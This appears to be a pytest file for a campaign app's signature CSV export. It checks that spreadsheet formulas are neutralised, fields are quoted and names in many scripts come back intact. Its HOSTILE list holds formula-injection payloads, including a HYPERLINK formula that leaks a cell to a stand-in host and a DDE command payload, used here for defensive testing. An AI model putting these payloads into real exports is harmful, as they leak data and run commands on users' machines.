"""Exports are safe to open: no cell can run as a formula, every field is quoted correctly,
and names in any script come back exactly as they were written."""

from __future__ import annotations

import csv
import io

import pytest
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import given, settings
from hypothesis import strategies as st

from campaign.database import utcnow
from campaign.exports.services import _postgres_line, _sqlite_line
from campaign.exports.writer import FORMULA_TRIGGERS, CsvEncoder, csv_bytes, csv_line, neutralise
from campaign.extensions import db
from tests.exports.helpers import as_dicts, parse
from tests.factories import add_signature

# Formulas as attackers write them (OWASP's examples and friends).
HOSTILE = [
    "=1+2",
    '=HYPERLINK("https://evil.example/?leak="&A2,"Click me")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    # Behind invisible format characters (zero-width space, BOM, right-to-left override):
    # stored before names were cleaned of them, or by another path.
    "\u200b=1+1",
    "\ufeff@SUM(A1:A9)",
    "\u202e=1+2",
    "\u202eevil\u202c",
    # Format characters beyond the first plane: a musical beam mark, a language tag.
    "\U0001d173+1+2",
    "\U000e0001=1+2",
]
# Names that must survive exactly: separators, quotes, line breaks, every script.
SAFE = [
    "O'Brien",
    'Dwayne "The Rock"',
    "Comma, Name",
    "Semi;colon",
    "Line\nbreak",
    "Carriage\r\nreturn",
    "Zoë Ñúñez-Łukasiewicz",
    "محمد الحسيني",
    "שרה כהן",
    "李小龍",
    "さくら 山田",
    "김민준",
    "अनन्या शर्मा",
    "Καλλιόπη",
    "Владимир Иванов",
    "Ana 🌍✊🏽",
    "e\u0301 (combining)",
    "Ana\u200dMaria 👩\u200d💻",
    "<script>alert(1)</script>",
    "1 + 1 = 2",
    "Trailing space ",
    "x" * 100,
]


@pytest.fixture
def hostile_export(
    app: Flask, organiser_client: FlaskClient, campaign: str, campaign_id: int
) -> list[dict[str, str]]:
    with app.app_context():
        for n, name in enumerate(HOSTILE + SAFE):
            add_signature(
                db.session,
                campaign_id,
                first_name=name,
                last_name=name[::-1] if name not in HOSTILE else name,
                email=f"{'-' if name in HOSTILE else ''}person{n}@example.org",
                postcode="=1+2" if name in HOSTILE else "75011",
                source="@share" if name in HOSTILE else "twitter",
                confirmed_at=utcnow(),
            )
        db.session.commit()
    body = organiser_client.get(f"/organiser/campaigns/{campaign}/signatures.csv").data
    return as_dicts(body)


def test_no_cell_of_the_export_starts_like_a_formula(hostile_export: list[dict[str, str]]) -> None:
    for row in hostile_export:
        for column, value in row.items():
            assert not value[:1] or value[0] not in FORMULA_TRIGGERS, (column, value)


def test_formulas_are_kept_as_text_behind_an_apostrophe(
    hostile_export: list[dict[str, str]],
) -> None:
    rows = hostile_export[: len(HOSTILE)]
    assert [row["first_name"] for row in rows] == ["'" + name for name in HOSTILE]
    assert {row["postcode"] for row in rows} == {"'=1+2"}
    assert {row["source"] for row in rows} == {"'@share"}
    assert all(row["email"].startswith("'-person") for row in rows)


def test_names_in_every_script_round_trip_exactly(hostile_export: list[dict[str, str]]) -> None:
    rows = hostile_export[len(HOSTILE) :]
    assert [row["first_name"] for row in rows] == SAFE
    assert [row["last_name"] for row in rows] == [name[::-1] for name in SAFE]


def test_the_file_is_rfc_4180_with_crlf_line_ends(
    app: Flask, organiser_client: FlaskClient, campaign: str, campaign_id: int
) -> None:
    with app.app_context():
        add_signature(
            db.session, campaign_id, first_name='Say "hi", then\nleave', confirmed_at=utcnow()
        )
        db.session.commit()
    body = organiser_client.get(f"/organiser/campaigns/{campaign}/signatures.csv").data
    assert b'"Say ""hi"", then\nleave"' in body
    assert body.count(b"\r\n") == 2 and body.endswith(b"\r\n")


@pytest.mark.parametrize("value", [*HOSTILE, *SAFE, "", "'already quoted", "=", "-", "café"])
def test_the_fast_line_builders_follow_the_same_rules_as_neutralise_and_csv_writer(
    value: str,
) -> None:
    stored = ("2026-11-28 10:00:00.000000", "2026-11-28 11:00:00.000000")
    iso = ("2026-11-28T10:00:00Z", "2026-11-28T11:00:00Z")
    row = (value, value, value, value, value, 1, value)
    cell = neutralise(value)
    expected = csv_text([cell, cell, cell, cell, cell, "true", cell, *iso, "en", "v1"])
    assert _sqlite_line((*row, *stored, "en", "v1", None, 7)) == expected
    assert _postgres_line((*row, *iso, "en", "v1", None, "key", 7)) == expected


def csv_text(fields: list[str]) -> str:
    """What csv.writer writes for the record, without its line end."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow(fields)
    return buffer.getvalue().removesuffix("\r\n")


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.text(alphabet=st.characters(codec="utf-8"), max_size=12), min_size=1, max_size=9)
)
def test_csv_line_writes_exactly_what_csv_writer_writes(fields: list[str]) -> None:
    assert csv_line(fields) == csv_text(fields)
    assert parse((csv_line(fields) + "\r\n").encode()) == [fields]


def test_empty_optional_cells_stay_empty() -> None:
    stored = ("2026-11-28 10:00:00.000000", "2026-11-28 11:00:00.000000")
    line = _sqlite_line(
        ("A", "B", "a@example.org", "FR", None, 0, None, *stored, "fr", "v1", None, 1)
    )
    assert line == ("A,B,a@example.org,FR,,false,,2026-11-28T10:00:00Z,2026-11-28T11:00:00Z,fr,v1")
    assert parse(csv_bytes(["a", "b"], [[None, 0]])) == [["a", "b"], ["", "0"]]


def test_small_exports_neutralise_every_cell_too() -> None:
    assert parse(csv_bytes(["name"], [["=1+2"], ["@x"], ["fine"]])) == [
        ["name"],
        ["'=1+2"],
        ["'@x"],
        ["fine"],
    ]


def test_the_encoder_hands_out_each_batch_once() -> None:
    encoder = CsvEncoder()
    encoder.add([["name", "n"], ["Ada", 1]])
    first = encoder.take()
    encoder.add([["=2+2", None]])
    second = encoder.take()
    assert first == b"name,n\r\nAda,1\r\n"
    assert second == b"'=2+2,\r\n"
    assert encoder.take() == b""
